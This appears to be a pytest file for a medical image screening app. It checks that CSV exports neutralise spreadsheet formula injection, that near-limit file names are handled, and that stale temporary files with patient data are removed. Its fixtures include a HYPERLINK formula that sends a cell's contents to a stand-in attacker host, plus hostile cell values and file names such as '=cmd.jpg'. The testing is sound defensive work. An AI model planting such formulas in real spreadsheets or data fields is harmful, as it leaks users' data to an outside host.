"""Names chosen to hurt: formulas in CSV cells, a file name near the system's limit, temporary files a kill left
(red-team issue, items 7, 8 and 13)."""

from __future__ import annotations

import csv
import os
import time
from pathlib import Path

import cv2
from dicom_factory import write_dicom

from ran_desktop.cli.screen import main as screen_main
from ran_desktop.engine.atomic import TEMP_PREFIX, clean_stale_temporaries, write_bytes_atomically
from ran_desktop.engine.records.results import spreadsheet_safe
from ran_desktop.engine.records.review import ImageRecord
from ran_desktop.engine.records.session_export import write_session
from ran_desktop.engine.records.storage import Storage, open_storage

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers():
    for dangerous in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    for kept in ("-3", "+4.5", "-1e-3", "Doe, Jane", "", "OD"):
        assert spreadsheet_safe(kept) == kept
    assert spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe(None) == ""


def test_the_cli_and_the_session_export_write_no_formula(tiny_bundle, sample_path, tmp_path):
    rgb = cv2.cvtColor(cv2.imread(str(sample_path)), cv2.COLOR_BGR2RGB)
    folder = tmp_path / "in"
    folder.mkdir()
    # ("=" separates a DICOM person name's groups, so the name carries "-" and "@" and the ID the formula)
    write_dicom(folder / "study.dcm", rgb, patient_id=FORMULA, patient_name="-2+3^@cmd")
    (folder / "@evil.jpg").write_bytes(sample_path.read_bytes())
    (folder / "=cmd.jpg").write_bytes(sample_path.read_bytes())
    out = tmp_path / "results.csv"
    assert screen_main([str(folder), "--out", str(out), "--model", str(tiny_bundle), "--device", "cpu",
                        "--quiet"]) in (0, 1)
    rows = _rows(out)
    assert len(rows) == 3
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not (cell.startswith("-") and not _is_number(cell)), (column, cell)
    dicom = next(r for r in rows if r["file"].endswith("study.dcm"))
    assert dicom["patient_id"] == "'" + FORMULA and dicom["patient_name"].startswith("'-2+3")
    assert float(dicom["p_dr0"]) >= 0  # numbers are still numbers
    # the app's own export of the same images
    with open_storage(tmp_path / "data") as store:
        db, session = store.path, store.current_session()
    from ran_desktop.engine.model.bundle import load_bundle
    from ran_desktop.engine.screening.batch import BatchRun

    BatchRun(load_bundle(tiny_bundle, device="cpu"), db, session, [folder]).run(lambda n: None, lambda *a: None)
    with Storage(db) as store:
        records: list[ImageRecord] = store.load_session(session)
    exported = _rows(write_session(records, tmp_path / "session.csv"))
    cells = [cell for row in exported for cell in row.values()]
    assert "'" + FORMULA in cells and not any(c.startswith(("=", "@", "+")) for c in cells)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_file_name_near_the_limit_loses_nothing(tiny_bundle, sample_path, tmp_path):
    """Item 8: a 248-character name with --heatmaps made the temporary file name longer than 255 bytes; unlink
    raised inside the error handler and no CSV was written."""
    long_name = ("e" * 244) + ".jpg"
    assert len(long_name) == 248
    photo = tmp_path / long_name
    photo.write_bytes(sample_path.read_bytes())
    out, heat = tmp_path / "results.csv", tmp_path / "heat"
    code = screen_main([str(photo), "--out", str(out), "--heatmaps", str(heat), "--model", str(tiny_bundle),
                        "--device", "cpu", "--quiet"])
    assert code == 0 and len(_rows(out)) == 1
    overlays = list(heat.iterdir())
    assert len(overlays) == 1 and len(overlays[0].name.encode()) < 255 and not overlays[0].name.startswith(".")
    # and where the target's own name is too long, the error says so and nothing is left
    from ran_desktop.engine.errors import WriteError

    target = tmp_path / ("x" * 300)
    try:
        write_bytes_atomically(target, b"data")
    except WriteError as exc:
        assert "the file name is too long" in exc.reason
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(TEMP_PREFIX)]


def test_temporaries_a_kill_left_are_removed_on_the_next_write(tmp_path):
    """Item 13: a kill between write and rename left a hidden file full of patient data that no later run removed."""
    stale = tmp_path / f"{TEMP_PREFIX}0123456789ab.tmp"
    stale.write_text("patient data")
    old = time.time() - 2 * 3600
    os.utime(stale, (old, old))
    fresh = tmp_path / f"{TEMP_PREFIX}ba9876543210.tmp"  # another process's write in progress: left alone
    fresh.write_text("in progress")
    theirs = tmp_path / ".someone-else.tmp"  # not the app's naming: never touched
    theirs.write_text("x")
    os.utime(theirs, (old, old))
    write_bytes_atomically(tmp_path / "export.csv", b"a,b\n")
    assert not stale.exists() and fresh.exists() and theirs.exists()
    assert (tmp_path / "export.csv").read_bytes() == b"a,b\n"
    assert clean_stale_temporaries(tmp_path) == []  # once per folder and process
